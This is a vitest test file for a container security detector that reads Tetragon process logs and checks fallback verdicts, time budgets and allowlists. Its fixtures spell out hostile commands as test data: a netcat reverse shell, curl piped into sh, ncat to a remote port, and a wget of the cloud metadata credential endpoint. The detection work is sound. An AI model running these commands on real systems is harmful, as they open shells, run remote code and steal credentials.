import { describe, expect, it } from "vitest";
import { EMPTY_ALLOWLIST, parseAllowlist } from "../../src/detection/allowlist.js";
import { unanalysedVerdict } from "../../src/detection/fallback.js";
import { analysisDeadline } from "../../src/invocation.js";
import type { LogBatch } from "../../src/model.js";
import { processBatch } from "../../src/pipeline.js";
import { processEvent, run, session } from "./factory.js";

const WHY = "not analysed";

describe("unanalysedVerdict", () => {
  it.each([
    ["a utility by path", run("/usr/bin/curl", "-s", "http://203.0.113.7/x"), "curl", "medium"],
    ["a relay handed a shell", run("/tmp/nc", "-e", "/bin/sh", "198.51.100.23", "4444"), "nc", "high"],
    ["a credential endpoint", run("/usr/bin/wget", "http://169.254.170.2/v2/credentials"), "wget", "high"],
    ["an exec session naming a utility", session("sh", "-c", "id; ncat 203.0.113.7 4444"), "ncat", "medium"],
    ["an exec session piping into a shell", session("sh", "-c", "curl -s http://x/a | sh"), "curl", "high"],
  ])("%s is a finding", (_name, event, utility, severity) => {
    const verdict = unanalysedVerdict(event, WHY);
    expect(verdict.kind).toBe("finding");
    if (verdict.kind !== "finding") return;
    expect(verdict.finding.utility.name).toBe(utility);
    expect(verdict.finding.severity).toBe(severity);
    expect(verdict.finding.reasons[0]).toContain(WHY);
  });

  it("leaves host processes and other programs alone", () => {
    expect(unanalysedVerdict({ ...run("/usr/bin/curl"), inContainer: false }, WHY)).toEqual({
      kind: "none",
      why: "host-process",
    });
    expect(unanalysedVerdict(processEvent({ name: "ls", path: "/bin/ls", args: ["curl"] }), WHY).kind).toBe(
      "none",
    );
  });

  it("keeps a bounded argument list, so rendering the finding stays cheap", () => {
    const event = run("/usr/bin/curl", ...Array.from({ length: 10_000 }, () => "x".repeat(5000)));
    const verdict = unanalysedVerdict(event, WHY);
    if (verdict.kind !== "finding") throw new Error("expected a finding");
    expect(verdict.finding.process.args).toHaveLength(65);
    expect(verdict.finding.process.args?.[0]).toHaveLength(2048);
    expect(verdict.finding.process.args?.[64]).toBe("…[9936 more args not analysed]");
  });
});

function tetragon(id: string, binary: string, args: string): LogBatch["logEvents"][number] {
  const message = JSON.stringify({
    process_exec: {
      process: {
        exec_id: id,
        pid: 4000 + Number(id),
        binary,
        arguments: args,
        pod: {
          namespace: "payments",
          name: "api-1",
          container: { id: "containerd://6f1c2e0b9a8d", name: "api" },
        },
      },
      parent: { binary: "/bin/sh", arguments: "" },
    },
    node_name: "ip-10-0-1-23.ec2.internal",
    time: "2026-11-28T10:00:00Z",
  });
  return { id, timestamp: Date.UTC(2026, 10, 28, 10), message };
}

describe("processBatch with a time budget", () => {
  const batch: LogBatch = {
    owner: "123456789012",
    logGroup: "/aws/containerinsights/prod-eks/tetragon",
    logStream: "ip-10-0-1-23.ec2.internal",
    subscriptionFilters: [],
    logEvents: [
      tetragon("1", "/usr/bin/curl", "-fsS http://203.0.113.7/a"),
      tetragon("2", "/bin/ls", "-la"),
      tetragon("3", "/tmp/nc", "-e /bin/sh 198.51.100.23 4444"),
    ],
  };

  it("judges the events after the deadline without analysis, never drops them, and counts them", () => {
    // A clock the pipeline reads once per log event: the deadline passes after the first one.
    let reads = 0;
    const deadline = { atMs: 1, now: () => reads++ };
    const { signals, stats } = processBatch(batch, {
      minSeverity: "low",
      allowlist: EMPTY_ALLOWLIST,
      deadline,
    });
    expect(stats.overBudget).toBe(1);
    const nc = signals.find((s) => s.process.name === "nc");
    expect(nc?.severity).toBe("high");
    expect(nc?.reasons[0]).toContain("time budget ran out");
    const curl = signals.find((s) => s.process.name === "curl");
    expect(curl?.reasons).toEqual(["curl (download tool) ran in a container"]);
  });

  it("analyses everything within the budget", () => {
    const deadline = { atMs: Number.POSITIVE_INFINITY, now: () => 0 };
    const { stats } = processBatch(batch, { minSeverity: "medium", allowlist: EMPTY_ALLOWLIST, deadline });
    expect(stats.overBudget).toBe(0);
  });

  it("still applies the allowlist to an unanalysed process, whose arguments are its own", () => {
    const allowlist = parseAllowlist(JSON.stringify([{ utility: "nc", maxSeverity: "high" }]), "test");
    const deadline = { atMs: 0, now: () => 0 };
    const { signals, stats } = processBatch(batch, { minSeverity: "low", allowlist, deadline });
    expect(stats.suppressed).toBe(1);
    expect(signals.map((s) => s.process.name)).toEqual(["curl"]);
  });
});

describe("analysisDeadline", () => {
  it("gives the analysis half the time before the sink's 5 s margin, at most 10 s", () => {
    expect(analysisDeadline(1_000, 60_000)).toBe(1_000 + 10_000);
    expect(analysisDeadline(1_000, 15_000)).toBe(1_000 + 5_000);
    expect(analysisDeadline(1_000, 3_000)).toBe(1_000);
  });
});
